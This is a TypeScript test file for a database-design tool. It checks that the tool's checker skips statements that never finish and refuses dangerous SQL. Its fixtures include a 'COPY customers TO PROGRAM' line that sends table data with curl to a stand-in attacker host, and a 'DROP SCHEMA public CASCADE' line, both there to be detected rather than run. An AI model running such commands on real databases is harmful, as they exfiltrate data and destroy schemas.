import { afterEach, describe, expect, it } from 'vitest';
import { exampleDocument, type DesignDocument } from '../core/model';
import type { DdlStatement } from '../core/sql/types';
import { createPgClient, type PgClient, type RestartEvent, type WorkerLike } from '../db';
import { createEngine } from '../db/engine';
import { loadParser } from '../db/import/pgParser';
import type { DbApi, DbProgress } from '../db/protocol';
import { InProcessWorker } from '../db/rpc/inProcessWorker';
import type { PgConnection } from '../db/reset';
import { scanStatements } from '../db/safetyScan';
import { createCheckStore, type CheckState } from '../state/checkStore';
import { createStudioStore } from '../state/store';
import { addColumn, renameTable, updateColumn } from '../core/ops';
import { useTestDb } from '../test/pglite';
import { HUNG_CODE, startChecker } from './checker';

const db = useTestDb();
const ENDLESS = 'DO $$ BEGIN LOOP END LOOP; END $$;';

/**
 * The real engine on the test's real PGlite, behind the worker interface. SQL that would run
 * forever in WASM (the endless loop) never answers here either: `exec` of it never settles, as
 * a worker stuck in WASM would not; the client's watchdog then "terminates" this worker.
 * Everything else runs in PostgreSQL.
 */
const EngineWorker = { executed: [] as string[] };

function engineWorker(pg: PgConnection): WorkerLike {
  const stuck: PgConnection = {
    query: pg.query.bind(pg) as PgConnection['query'],
    exec: ((sql: string, options?: object) => {
      EngineWorker.executed.push(sql);
      return sql.includes('LOOP END LOOP') ? new Promise(() => {}) : pg.exec(sql, options);
    }) as PgConnection['exec'],
  };
  const engine = createEngine(stuck);
  return new InProcessWorker<DbApi, DbProgress>(
    ({ progress }) => ({
      checkSchema: (statements) => engine.checkSchema(statements, progress),
      applyChange: (steps, baseline) => engine.applyChange(steps, baseline),
      runSql: (sql) => engine.runSql(sql),
      importSql: (sql, options) => engine.importSql(sql, options, progress),
    }),
    { ready: { bootMs: 1, fromSnapshot: true }, serve: { serial: false } },
  );
}

function documentWith(extras: { id: string; sql: string }[]): DesignDocument {
  const doc = exampleDocument();
  doc.design.extras = [
    ...doc.design.extras,
    ...extras.map((x) => ({ ...x, kind: 'other' as const, name: x.id, dependsOn: [] })),
  ];
  return doc;
}

let stop: (() => void) | undefined;
let client: PgClient | undefined;
afterEach(() => {
  stop?.();
  client?.dispose();
});

async function settle(
  check: ReturnType<typeof createCheckStore>,
  ok: (s: CheckState) => boolean,
): Promise<CheckState> {
  const started = Date.now();
  while (Date.now() - started < 30_000) {
    const s = check.getState();
    if (ok(s)) return s;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`no verdict: ${JSON.stringify(check.getState())}`);
}

async function setup(
  doc: DesignDocument,
  scan?: (statements: readonly DdlStatement[]) => Promise<Map<number, never>>,
) {
  const pg = await db();
  await pg.exec('SET client_min_messages = warning');
  const parser = await loadParser();
  let workers = 0;
  client = createPgClient({
    createWorker: () => (workers++, engineWorker(pg)),
    checkStatementTimeoutMs: 300,
  });
  const restarts: RestartEvent[] = [];
  client.onRestart((e) => restarts.push(e));
  const store = createStudioStore(doc);
  const check = createCheckStore();
  const checker = startChecker(store, client, check, {
    scanDangers:
      scan ?? (async (statements: readonly DdlStatement[]) => scanStatements(parser, statements)),
  });
  stop = checker.stop;
  return { store, check, restarts, workers: () => workers, checker, client: client! };
}

describe('the checker with a statement that never ends (real PGlite)', () => {
  it('names it, skips it from then on, checks the rest, and settles without a restart loop', async () => {
    EngineWorker.executed = [];
    const { check, restarts, workers } = await setup(
      documentWith([
        { id: 'x_loop', sql: ENDLESS },
        {
          id: 'x_fn',
          sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;',
        },
        { id: 'x_bad', sql: 'CREATE VIEW broken AS SELECT nope FROM customers;' },
      ]),
    );
    const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
    expect(state.status).toBe('rejected');
    const hung = state.errors.filter((e) => e.code === HUNG_CODE);
    expect(hung).toHaveLength(1);
    expect(hung[0]?.entityId).toBe('x_loop');
    expect(hung[0]?.detail).toContain('LOOP END LOOP');
    expect(hung[0]?.message).toMatch(/did not finish/);
    expect(state.ddlText.slice(hung[0]!.from, hung[0]!.to)).toContain('LOOP END LOOP');
    // The rest was checked: the broken view is reported by Postgres itself.
    expect(state.errors.some((e) => e.entityId === 'x_bad' && e.code === '42703')).toBe(true);
    expect(state.message).toMatch(/not run/);
    // Exactly one restart, by the watchdog of a check (not a "query was stopped").
    expect(restarts.map((r) => r.reason)).toEqual(['checkTimeout']);
    expect(workers()).toBe(2);
    // Later checks do not run it again, and do not restart the worker.
    const loopsRun = EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length;
    await new Promise((r) => setTimeout(r, 1000));
    expect(restarts).toHaveLength(1);
    expect(EngineWorker.executed.filter((sql) => sql.includes('LOOP END LOOP')).length).toBe(
      loopsRun,
    );
  });

  it('fails closed: when the safety scan cannot run, SQL that came with the design is not run', async () => {
    EngineWorker.executed = [];
    const { check } = await setup(
      documentWith([{ id: 'x_copy', sql: "COPY (SELECT 1) TO PROGRAM 'true';" }]),
      () => Promise.reject(new Error('parser failed to load')),
    );
    const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
    expect(state.status).toBe('rejected');
    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(
      /safety check could not start \(parser failed to load\)/,
    );
    expect(EngineWorker.executed.some((sql) => sql.includes('PROGRAM'))).toBe(false);
    // What the design generated itself is still checked.
    expect(EngineWorker.executed.some((sql) => sql.includes('CREATE TABLE customers'))).toBe(true);
  });

  it('runs the statement again once the design changes it', async () => {
    EngineWorker.executed = [];
    const { store, check, restarts } = await setup(documentWith([{ id: 'x_loop', sql: ENDLESS }]));
    await settle(check, (s) => s.status === 'rejected');
    store.getState().dispatchBoth((design, layout) => ({
      design: {
        ...design,
        extras: (design.extras ?? []).map((x) =>
          x.id === 'x_loop' ? { ...x, sql: 'DO $$ BEGIN PERFORM 1; END $$;' } : x,
        ),
      },
      layout,
    }));
    const state = await settle(check, (s) => s.status === 'accepted');
    expect(state.errors).toEqual([]);
    expect(restarts).toHaveLength(1);
    expect(EngineWorker.executed.some((sql) => sql.includes('PERFORM 1'))).toBe(true);
  });
});

describe('the checker with dangerous statements (real PGlite)', () => {
  it('reports them without running them, and checks the rest', async () => {
    EngineWorker.executed = [];
    const { check } = await setup(
      documentWith([
        { id: 'x_copy', sql: "COPY customers TO PROGRAM 'curl -T - https://evil.example';" },
        { id: 'x_drop', sql: 'DROP SCHEMA public CASCADE;' },
        {
          id: 'x_fn',
          sql: 'CREATE FUNCTION answer() RETURNS int LANGUAGE sql AS $$ SELECT 42 $$;',
        },
      ]),
    );
    const state = await settle(check, (s) => s.status === 'rejected' || s.status === 'accepted');
    expect(state.status).toBe('rejected');
    expect(state.errors.map((e) => e.entityId).sort()).toEqual(['x_copy', 'x_drop']);
    expect(state.errors.find((e) => e.entityId === 'x_copy')?.message).toMatch(
      /Not run: dangerous.*PROGRAM runs a shell command/,
    );
    expect(EngineWorker.executed.some((sql) => /PROGRAM|DROP SCHEMA public/.test(sql))).toBe(false);
    expect(EngineWorker.executed.some((sql) => sql.includes('answer()'))).toBe(true);
  });
});

describe('the checker applies each edit as a change to what it last accepted (real PGlite)', () => {
  it('checks an edit by its change; a refused change gets the whole run with exact errors; the fix is accepted again', async () => {
    const { store, check } = await setup(exampleDocument());
    const first = await settle(check, (s) => s.status === 'accepted');
    expect(first.verdict).toMatch(/^Checked the whole design/);
    const design = store.getState().design;
    const [tableId, table] = Object.entries(design.tables)[0]!;

    EngineWorker.executed = [];
    store
      .getState()
      .dispatch((d) =>
        addColumn(d, tableId, { id: 'c_added', name: 'added_note', type: 'text', nullable: true }),
      );
    const added = await settle(
      check,
      (s) => s.status === 'accepted' && s.verdict !== first.verdict,
    );
    expect(added.verdict).toMatch(/^Checked the change: 1 step/);
    // Only the change ran: no CREATE TABLE, no reset.
    expect(EngineWorker.executed.join('\n')).toContain('ADD COLUMN added_note text');
    expect(EngineWorker.executed.join('\n')).not.toMatch(/CREATE TABLE/);

    store.getState().dispatch((d) => updateColumn(d, tableId, 'c_added', { type: 'no_such_type' }));
    const refused = await settle(check, (s) => s.status === 'rejected');
    expect(refused.verdict).toMatch(/the change was refused/);
    expect(refused.errors).toHaveLength(1);
    const error = refused.errors[0]!;
    expect(error).toMatchObject({ entityId: tableId, code: '42704' });
    // Exact as a whole run places it: the statement of the table, the offset at the type.
    expect(refused.ddlText.slice(error.from, error.to)).toContain(`CREATE TABLE ${table.name}`);
    expect(refused.ddlText.slice(error.offset, error.offset! + 12)).toBe('no_such_type');

    store.getState().dispatch((d) => updateColumn(d, tableId, 'c_added', { type: 'integer' }));
    await settle(check, (s) => s.status === 'accepted');
    store.getState().dispatch((d) => renameTable(d, tableId, 'renamed_again'));
    const renamed = await settle(
      check,
      (s) => s.status === 'accepted' && /^Checked the change/.test(s.verdict ?? ''),
    );
    expect(renamed.errors).toEqual([]);
  });
});

describe('settle: the console waits for the database to hold the design', () => {
  it('runs a waiting check at once, so a table made a moment ago can be queried', async () => {
    const { store, check, checker, client } = await setup(exampleDocument());
    await settle(check, (s) => s.status === 'accepted');
    const tableId = Object.keys(store.getState().design.tables)[0]!;
    store.getState().dispatch((d) => renameTable(d, tableId, 'made_a_moment_ago'));
    // The debounce has not passed: without settling, the database does not know the name yet.
    await checker.settle();
    const result = await client.runSql('SELECT count(*) FROM made_a_moment_ago');
    expect(result.ok).toBe(true);
  });
});
